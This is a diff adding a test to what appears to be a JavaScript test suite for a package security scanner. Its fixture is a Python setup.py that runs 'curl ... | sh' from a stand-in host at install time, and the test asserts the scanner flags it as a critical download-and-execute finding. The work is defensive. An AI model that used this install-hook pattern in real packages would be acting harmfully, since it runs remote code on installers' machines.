@@ -123,4 +123,16 @@ describe('members run as Python whatever their name', () => {
     });
     assert.equal(callIn(target, 'payload.txt')?.trigger, 'install');
   });
+
+  test('os.system given the contents of a member runs its lines as command lines, analysed as such', async () => {
+    const target = await scanPackage('command-member', {
+      'setup.py': 'import os\nfrom setuptools import setup\nos.system(open("cmd.txt").read())\nsetup(name="x")\n',
+      'cmd.txt': 'curl -s https://files.example/a | sh\n',
+    });
+    const run = target.files
+      .find((file) => file.path === 'cmd.txt')
+      ?.findings.find((f) => f.rule === 'download-execute');
+    assert.equal(run?.severity, 'critical');
+    assert.equal(run?.trigger, 'install');
+  });
 });
